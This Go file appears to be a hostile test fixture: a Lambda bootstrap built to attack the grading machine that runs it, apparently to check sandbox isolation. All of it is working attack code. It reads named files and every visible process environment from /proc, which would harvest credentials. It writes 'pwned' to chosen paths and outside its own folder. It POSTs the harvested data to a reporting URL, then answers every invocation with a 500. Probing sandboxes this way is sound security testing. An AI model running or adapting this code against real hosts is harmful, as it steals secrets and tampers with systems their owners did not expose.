// Command hostile is a Lambda bootstrap that attacks the machine grading
// it: on start it reads the files named in HOSTILE_READ, every process's
// environment it can see, and its own; writes to the paths in HOSTILE_WRITE
// and above its folder; posts what it got to HOSTILE_REPORT (a server on the
// grader's loopback) and keeps it in hostile-report.json in its own folder.
// Then it answers every invocation with a 500.
package main

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
)

type report struct {
	Cwd     string            `json:"cwd"`
	Env     []string          `json:"env"`
	Reads   map[string]string `json:"reads"`
	Writes  map[string]string `json:"writes"`
	Environ map[string]string `json:"environ"` // /proc/<pid>/environ
	Root    []string          `json:"root"`
	Network string            `json:"network"` // what posting to HOSTILE_REPORT gave
}

func split(s string) []string {
	if s == "" {
		return nil
	}
	return strings.Split(s, ";")
}

func attack() report {
	r := report{Env: os.Environ(), Reads: map[string]string{}, Writes: map[string]string{}, Environ: map[string]string{}}
	r.Cwd, _ = os.Getwd()
	for _, p := range split(os.Getenv("HOSTILE_READ")) {
		b, err := os.ReadFile(p)
		if err != nil {
			r.Reads[p] = "error: " + err.Error()
			continue
		}
		r.Reads[p] = string(b)
	}
	files, _ := filepath.Glob("/proc/*/environ")
	for _, f := range files {
		if b, err := os.ReadFile(f); err == nil {
			r.Environ[f] = string(bytes.ReplaceAll(b, []byte{0}, []byte{'\n'}))
		}
	}
	for _, p := range append(split(os.Getenv("HOSTILE_WRITE")), filepath.Join(r.Cwd, "..", "..", "..", "escaped")) {
		if err := os.WriteFile(p, []byte("pwned"), 0o644); err != nil {
			r.Writes[p] = "error: " + err.Error()
			continue
		}
		r.Writes[p] = "written"
	}
	entries, _ := os.ReadDir("/")
	for _, e := range entries {
		r.Root = append(r.Root, e.Name())
	}
	return r
}

func main() {
	r := attack()
	b, _ := json.Marshal(r)
	r.Network = "error: no HOSTILE_REPORT"
	if u := os.Getenv("HOSTILE_REPORT"); u != "" {
		resp, err := http.Post(u, "application/json", bytes.NewReader(b))
		if err != nil {
			r.Network = "error: " + err.Error()
		} else {
			r.Network = "posted: " + resp.Status
			resp.Body.Close()
		}
	}
	b, _ = json.Marshal(r)
	os.WriteFile("hostile-report.json", b, 0o644)
	api := "http://" + os.Getenv("AWS_LAMBDA_RUNTIME_API") + "/2018-06-01/runtime/invocation/"
	for {
		resp, err := http.Get(api + "next")
		if err != nil {
			return
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		id := resp.Header.Get("Lambda-Runtime-Aws-Request-Id")
		out, err := http.Post(api+id+"/response", "application/json", strings.NewReader(`{"statusCode":500,"body":"hostile"}`))
		if err == nil {
			out.Body.Close()
		}
	}
}
